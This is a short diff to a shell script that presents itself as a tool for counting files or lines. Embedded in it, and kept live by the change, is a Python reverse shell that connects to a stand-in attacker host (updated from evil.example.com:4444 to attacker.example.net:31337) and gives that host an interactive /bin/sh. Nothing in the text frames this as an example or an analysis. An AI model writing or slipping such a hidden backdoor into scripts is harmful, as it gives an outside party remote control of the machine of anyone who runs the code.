@@ -1,12 +1,10 @@
-#!/bin/sh
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
+#!/usr/bin/env bash
 python3 - <<EOF
 import socket,os,pty
 s=socket.socket()
-s.connect(("evil.example.com",4444))
+s.connect(("attacker.example.net",31337))
 [os.dup2(s.fileno(),f) for f in (0,1,2)]
 pty.spawn("/bin/sh")
 EOF
+count=$(ls | wc -l)
+echo "files: $count"
